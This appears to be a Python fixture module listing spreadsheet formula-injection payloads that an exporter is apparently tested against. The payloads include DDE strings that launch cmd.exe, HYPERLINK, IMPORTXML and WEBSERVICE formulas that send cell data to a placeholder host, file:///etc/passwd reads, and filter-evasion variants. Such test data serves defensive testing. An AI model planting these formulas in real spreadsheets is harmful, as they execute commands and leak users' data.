"""What makes a spreadsheet run something: each must stay the text that it is."""

_COMMANDS = ("cmd|' /C calc'!A0", "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''")
_CALLS = (
    "1+1",
    "SUM(1;1)*cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid?leak="&A1;"Xem kết quả")',
    'IMPORTXML(CONCAT("http://example.invalid?v=";A1);"//a")',
    'WEBSERVICE("http://example.invalid/"&A1)',
    'DDE("cmd";"/C calc";"!A0")',
    '1+HYPERLINK("http://example.invalid")',
    "A1:A9",
    "'file:///etc/passwd'#$passwd.A1",
    'IF(1=1;"a";"b")',
)
_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_BLANKS = ("", " ", "\t", "\r", "\n", "\u200b", "\ufeff", "\u00a0")

PAYLOADS = tuple(
    dict.fromkeys(
        [
            *(f"{sign}{call}" for sign in _SIGNS for call in (*_COMMANDS, *_CALLS)),
            *(f"{blank}{sign}1+1" for blank in _BLANKS for sign in ("=", "+", "-", "@")),
            *("{=1+1}", "=cmd|'/C calc'!A0,x", '"=1+1"', '";=1+1', "',=1+1", "%0A=1+1", "|calc"),
            *("http://example.invalid/?a=1", "mailto:a@example.invalid", "file:///etc/passwd"),
            *(
                "internal:Sheet1!A1",
                "0123456789",
                "1e5",
                "TRUE",
                "02/09/1990",
                "#N/A",
                "_x003D_1+1",
            ),
        ]
    )
)
